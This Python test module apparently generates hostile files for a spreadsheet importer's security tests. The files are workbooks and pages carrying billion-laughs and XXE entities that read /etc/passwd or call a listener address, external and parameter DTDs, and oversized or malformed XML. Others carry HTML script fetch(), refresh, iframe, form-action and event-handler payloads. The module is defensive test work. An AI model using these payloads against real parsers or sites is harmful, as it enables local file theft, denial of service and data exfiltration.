"""XML and HTML that grow, fetch, or run: in the parts of workbooks and as files of their own."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

from tests.hostile.file import FORM, SECRET, Hostile, packed
from tests.workbook.forms import workbook
from tests.workbook.test_old_formats import ods
from tests.workbook.writers import html_page, spreadsheet_xml

__all__ = ["markup"]

_PARTS = (
    "xl/workbook.xml",
    "xl/worksheets/sheet1.xml",
    "xl/sharedStrings.xml",
    "xl/styles.xml",
    "xl/_rels/workbook.xml.rels",
    "[Content_Types].xml",
)


def _members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return {name: book.read(name) for name in book.namelist()}


_XLSX = _members(workbook({"Sheet1": FORM}))
_ODS = _members(ods())


def _declarations(listener: str) -> dict[str, tuple[bytes, bytes]]:
    """Return declarations of entities, and how each is used."""
    laughs = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 11)
    )
    called = listener.encode()
    return {
        "laughs": (b"<!DOCTYPE x [%s]>" % laughs, b"&a10;"),
        "one long entity": (
            b'<!DOCTYPE x [<!ENTITY a "%s">]>' % (b"x" * 50_000),
            b"&a;" * 20_000,
        ),
        "file": (b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', b"&a;"),
        "address": (b'<!DOCTYPE x [<!ENTITY a SYSTEM "%s/a">]>' % called, b"&a;"),
        "outer declarations": (b'<!DOCTYPE x SYSTEM "%s/x.dtd">' % called, b""),
        "parameter": (b'<!DOCTYPE x [<!ENTITY %% p SYSTEM "%s/p">%%p;]>' % called, b""),
    }


def _with(part: bytes, declared: bytes, used: bytes) -> bytes:
    """Return a part that declares entities, and uses them in its first text or tag."""
    end = part.find(b"?>") + 2 if part.startswith(b"<?xml") else 0
    root = part.index(b">", part.index(b"<", end)) + 1
    return part[:end] + declared + part[end:root] + used + part[root:]


def markup(listener: str) -> Iterator[Hostile]:
    """Yield files with markup; `listener` is an address that nobody may ask."""
    for kind, (declared, used) in _declarations(listener).items():
        for part in _PARTS:
            if "/_" in part and kind not in ("laughs", "file"):
                continue
            changed = packed(_XLSX | {part: _with(_XLSX[part], declared, used)})
            yield Hostile(f"{kind} in {part}", "entities.xlsx", changed)
        changed = packed(_ODS | {"content.xml": _with(_ODS["content.xml"], declared, used)})
        yield Hostile(f"{kind} in content.xml", "entities.ods", changed)
        plain = _with(spreadsheet_xml("Sheet1", FORM), declared, used)
        yield Hostile(f"{kind} in the XML of 2003", "entities.xml", plain, "refused")
    yield from _odd_xml()
    yield from _pages(listener)


def _odd_xml() -> Iterator[Hostile]:
    sheet = _XLSX["xl/worksheets/sheet1.xml"]
    for title, part in (
        ("a hundred thousand elements deep", b"<a>" * 100_000),
        ("an attribute of two million signs", b'<worksheet a="%s"/>' % (b"x" * 2_000_000)),
        (
            "fifty thousand attributes",
            b"<worksheet %s/>" % b" ".join(b'a%d="1"' % n for n in range(50_000)),
        ),
        ("no end", sheet[: len(sheet) // 2]),
        ("bytes that are no text", sheet.replace(b"<v>", b"<v>\xff\xfe")),
        ("UTF-16", sheet.decode().encode("utf-16")),
        ("UTF-7", sheet.replace(b"UTF-8", b"UTF-7")),
        ("NULs", sheet.replace(b"<row", b"\0<row")),
        ("another document", b"<html><script>alert(1)</script></html>"),
        (
            "an instruction",
            b'<?xml-stylesheet href="javascript:alert(1)"?>' + sheet.partition(b"?>")[2],
        ),
    ):
        changed = packed(_XLSX | {"xl/worksheets/sheet1.xml": part})
        yield Hostile(f"sheet: {title}", "odd.xlsx", changed)
        changed = packed(_ODS | {"content.xml": part})
        yield Hostile(f"content.xml: {title}", "odd.ods", changed)


def _pages(listener: str) -> Iterator[Hostile]:
    table = html_page(FORM).decode("gb18030").partition("<body>")[2].partition("</body>")[0]
    for title, said in (
        ("script", f"<script>fetch('{listener}')</script>{table}"),
        ("script in a cell", table.replace(SECRET, f"<script>{SECRET}</script>")),
        ("refresh", f'<meta http-equiv="refresh" content="0;url={listener}">{table}'),
        ("frames", f'<iframe src="{listener}"></iframe><object data="{listener}"></object>{table}'),
        ("a base", f'<base href="{listener}"><img src="a.png"><link href="b.css">{table}'),
        ("handlers", table.replace("<td", '<td onclick="alert(1)" style="behavior:url(x)"')),
        ("drawings", f'<svg onload="alert(1)"><use href="{listener}#x"/></svg>{table}'),
        ("a form", f'<form action="{listener}"><input name=a autofocus onfocus=alert(1)>{table}'),
        ("no end of tables", "<table>" * 20_000),
        ("tables in tables", "<table><tr><td>" * 2_000 + SECRET + "</td></tr></table>" * 2_000),
        ("a comment without end", f"{table}<!--{'-' * 100_000}"),
        ("marks of nothing", f"{table}{'<![' * 30_000}"),
        ("tags of nothing", f"{table}{'<a ' * 60_000}"),
        ("an entity of all", f"{table}{'&' * 200_000}"),
    ):
        page = f'<html><head><meta charset="utf-8"></head><body>{said}</body></html>'
        yield Hostile(f"page with {title}", "page.xls", page.encode())
